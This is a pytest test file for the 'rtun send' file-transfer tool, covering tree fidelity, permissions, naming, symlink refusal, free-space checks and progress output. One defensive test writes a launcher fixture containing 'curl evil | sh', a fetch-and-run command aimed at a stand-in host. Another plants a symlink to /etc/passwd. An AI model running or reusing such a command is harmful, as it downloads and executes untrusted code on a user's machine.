"""`rtun send` end to end: the real client on the "remote" side, a real ssh -R forward, the daemon."""

from __future__ import annotations

import hashlib
import os
import stat
from pathlib import Path

import pytest

from support.rtun import RtunDaemon, run_rtun
from support.sshd import Forward

MTIME = 1_600_000_000.0


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def snapshot(root: Path) -> dict:
    """Every entry below root: kind, permission bits, mtime (files and dirs), content hash."""
    found = {}
    for path in sorted(root.rglob("*")):
        st = path.lstat()
        rel = str(path.relative_to(root))
        if stat.S_ISLNK(st.st_mode):
            found[rel] = ("link", os.readlink(path))
        elif stat.S_ISDIR(st.st_mode):
            found[rel] = ("dir", stat.S_IMODE(st.st_mode), st.st_mtime)
        else:
            found[rel] = ("file", stat.S_IMODE(st.st_mode), st.st_mtime, sha(path))
    return found


@pytest.fixture
def tree(short_tmp: Path) -> Path:
    """Nested and empty directories, Unicode and spaces, a script, a zero-byte and a 100 MB file."""
    top = short_tmp / "project"
    (top / "nested" / "deeper").mkdir(parents=True)
    (top / "empty dir").mkdir()
    (top / "nested" / "deeper" / "notes ünïcødé ✓.txt").write_text("héllo wörld\n")
    script = top / "run.sh"
    script.write_text("#!/bin/sh\necho hi\n")
    script.chmod(0o755)
    (top / "zero").write_bytes(b"")
    with open(top / "nested" / "big.bin", "wb") as f:
        for _ in range(100):
            f.write(os.urandom(1024 * 1024))
    (top / "private").write_text("secret")
    (top / "private").chmod(0o600)
    (top / "group-writable").write_text("shared")
    (top / "group-writable").chmod(0o666)  # bits the local user's umask (022) takes away
    for path in sorted(top.rglob("*"), reverse=True):
        os.utime(path, (MTIME, MTIME))
    os.utime(top, (MTIME, MTIME))
    return top


def test_send_tree_arrives_byte_identical_with_modes_and_mtimes(forward, remote_home, save_dir, tree):
    result = run_rtun(["send", "-q", str(tree)], remote_home, timeout=120)
    assert result.returncode == 0, result.stderr
    umask = _umask()  # the daemon's, inherited from this test
    expected = {
        rel: (kind, mode & ~umask, *rest) if kind != "link" else (kind, mode, *rest)
        for rel, (kind, mode, *rest) in snapshot(tree).items()
    }
    assert snapshot(save_dir / "project") == expected
    assert stat.S_IMODE((save_dir / "project" / "group-writable").stat().st_mode) == 0o666 & ~umask


def _umask() -> int:
    mask = os.umask(0o022)
    os.umask(mask)
    return mask


def test_nothing_arrives_as_a_runnable_launcher_or_writable_by_others(
    forward, remote_home, save_dir, short_tmp
):
    top = short_tmp / "drop"
    top.mkdir()
    (top / "open-me.desktop").write_text("[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n")
    (top / "readme.txt").write_text("\ufeff".encode().decode() + "\n[Desktop Entry]\nExec=x\n")
    (top / "tool").write_text("#!/bin/sh\necho hi\n")
    (top / "wide").mkdir()
    for path, mode in (
        (top / "open-me.desktop", 0o777),
        (top / "readme.txt", 0o755),
        (top / "tool", 0o777),
        (top / "wide", 0o777),
    ):
        path.chmod(mode)
    result = run_rtun(["send", "-q", str(top)], remote_home)
    assert result.returncode == 0, result.stderr
    modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in (save_dir / "drop").iterdir()}
    umask = _umask()
    assert modes == {
        "open-me.desktop": 0o666 & ~umask,
        "readme.txt": 0o644 & ~umask,
        "tool": 0o777 & ~umask,
        "wide": 0o777 & ~umask,
    }


def test_send_prints_the_final_local_path_of_each_file(forward, remote_home, save_dir, short_tmp):
    source = short_tmp / "a b.txt"
    source.write_text("x")
    result = run_rtun(["send", str(source)], remote_home)
    assert result.returncode == 0, result.stderr
    assert result.stdout.decode().splitlines() == [str(save_dir / "a b.txt")]


def test_second_send_keeps_the_first_and_uses_a_free_name(forward, remote_home, save_dir, short_tmp):
    source = short_tmp / "report.pdf"
    source.write_text("first")
    assert run_rtun(["send", str(source)], remote_home).returncode == 0
    source.write_text("second")
    result = run_rtun(["send", str(source)], remote_home)
    assert result.returncode == 0, result.stderr
    assert (save_dir / "report.pdf").read_text() == "first"
    assert (save_dir / "report (1).pdf").read_text() == "second"
    assert result.stdout.decode().strip() == str(save_dir / "report (1).pdf")


def test_overwrite_replaces_the_existing_file(forward, remote_home, save_dir, short_tmp):
    source = short_tmp / "report.pdf"
    source.write_text("first")
    assert run_rtun(["send", str(source)], remote_home).returncode == 0
    source.write_text("second")
    result = run_rtun(["send", "--overwrite", str(source)], remote_home)
    assert result.returncode == 0, result.stderr
    assert (save_dir / "report.pdf").read_text() == "second"
    assert sorted(p.name for p in save_dir.iterdir()) == ["report.pdf"]


def test_send_standard_input_to_a_named_destination(forward, remote_home, save_dir):
    result = run_rtun(["send", "-", "--to", "logs/today.txt"], remote_home, input=b"from a pipe\n")
    assert result.returncode == 0, result.stderr
    assert (save_dir / "logs" / "today.txt").read_bytes() == b"from a pipe\n"


def test_send_standard_input_without_a_name_is_a_usage_error(forward, remote_home, save_dir):
    result = run_rtun(["send", "-"], remote_home, input=b"x")
    assert result.returncode == 2
    assert result.stderr.decode().strip() == "rtun send: reading standard input needs --to NAME"


def test_send_into_a_destination_directory(forward, remote_home, save_dir, short_tmp):
    (short_tmp / "one").write_text("1")
    (short_tmp / "two").write_text("2")
    result = run_rtun(["send", "--to", "inbox/", str(short_tmp / "one"), str(short_tmp / "two")], remote_home)
    assert result.returncode == 0, result.stderr
    assert sorted(p.name for p in (save_dir / "inbox").iterdir()) == ["one", "two"]


def test_links_inside_the_transfer_are_kept_and_links_out_are_refused(
    forward, remote_home, save_dir, short_tmp
):
    top = short_tmp / "linked"
    (top / "sub").mkdir(parents=True)
    (top / "a.txt").write_text("a")
    os.symlink("../a.txt", top / "sub" / "inside")
    os.symlink("/etc/passwd", top / "outside")
    result = run_rtun(["send", str(top)], remote_home)
    assert result.returncode == 0, result.stderr
    assert os.readlink(save_dir / "linked" / "sub" / "inside") == "../a.txt"
    assert not os.path.lexists(save_dir / "linked" / "outside")
    assert "linked/outside: symbolic link points outside the transfer" in result.stderr.decode()


def test_special_files_are_refused_with_a_clear_error(forward, remote_home, short_tmp):
    fifo = short_tmp / "pipe"
    os.mkfifo(fifo)
    result = run_rtun(["send", str(fifo)], remote_home)
    assert result.returncode == 1
    assert result.stderr.decode().strip() == f"rtun send: {fifo} is not a regular file or directory"


def test_not_enough_free_space_is_refused_before_any_byte_is_written(
    sshd, local_home, remote_home, short_tmp
):
    config = local_home / ".config" / "rtun"
    config.mkdir(parents=True)
    (config / "config.toml").write_text("[send]\nmin_free_bytes = 1000000000000000000\n")
    save_dir = local_home / "Downloads"
    daemon = RtunDaemon(local_home, save_dir).start()
    fwd = Forward(sshd, remote_home / ".rtun" / "rtun.sock", daemon.socket).wait_up()
    try:
        source = short_tmp / "f.bin"
        source.write_bytes(b"x" * 1000)
        result = run_rtun(["send", str(source)], remote_home)
        assert result.returncode == 4
        assert "not enough space" in result.stderr.decode()
        assert list(save_dir.iterdir()) == []
    finally:
        fwd.close()
        daemon.stop()


def test_progress_bar_shows_on_a_terminal_only(forward, remote_home, short_tmp):
    import fcntl
    import pty
    import struct
    import termios

    source = short_tmp / "f.bin"
    source.write_bytes(os.urandom(3 * 1024 * 1024))
    primary, secondary = pty.openpty()
    fcntl.ioctl(secondary, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 100, 0, 0))  # a real terminal's size
    try:
        import subprocess

        from support.rtun import RTUN, clean_env

        proc = subprocess.run(
            RTUN + ["send", str(source)],
            env=clean_env(remote_home),
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            stderr=secondary,
            timeout=60,
        )
        os.close(secondary)
        secondary = -1
        shown = b""
        while True:
            try:
                data = os.read(primary, 65536)
            except OSError:
                break
            if not data:
                break
            shown += data
    finally:
        os.close(primary)
        if secondary != -1:
            os.close(secondary)
    assert proc.returncode == 0
    assert b"/3.00M [" in shown and b"B/s]" in shown  # total size and rate
    piped = run_rtun(["send", str(source)], remote_home)
    assert piped.returncode == 0 and piped.stderr == b""


def test_send_dot_sends_the_current_directory_under_its_name(forward, remote_home, save_dir, short_tmp):
    here = short_tmp / "work dir"
    here.mkdir()
    (here / "a.txt").write_text("a")
    import subprocess

    from support.rtun import RTUN, clean_env

    done = subprocess.run(
        RTUN + ["send", "-q", "."], cwd=here, env=clean_env(remote_home), capture_output=True, timeout=60
    )
    assert done.returncode == 0, done.stderr
    assert (save_dir / "work dir" / "a.txt").read_text() == "a"


def test_a_name_v1_cannot_carry_is_a_one_line_error(forward, remote_home, short_tmp):
    odd = short_tmp / "two\nlines.txt"
    odd.write_text("x")
    result = run_rtun(["view", str(odd)], remote_home)
    assert result.returncode == 1
    assert result.stderr.decode().count("\n") == 1 and "line break" in result.stderr.decode()
